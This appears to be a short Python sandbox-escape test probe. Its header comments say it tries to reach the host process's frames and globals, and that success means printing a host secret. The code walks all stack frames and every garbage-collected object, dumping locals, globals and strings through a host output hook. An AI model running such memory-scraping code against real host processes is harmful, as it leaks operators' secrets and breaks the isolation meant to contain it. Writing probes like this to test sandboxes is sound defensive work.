# Tries: to reach the former code of its process: frames, modules, globals of its starter.
# Success: a secret of the host is printed, or it returns to its starter.
import gc
import sys

import host

frame = sys._getframe()
while frame is not None:
    host.print_tokens(repr(frame.f_locals).encode())
    host.print_tokens(repr(frame.f_globals)[:100_000].encode())
    frame = frame.f_back
for thing in gc.get_objects():
    try:
        if isinstance(thing, (str, bytes)) or type(thing) in (list, dict, tuple):
            host.print_tokens(repr(thing)[:10_000].encode("utf-8", "replace"))
    except Exception:
        pass
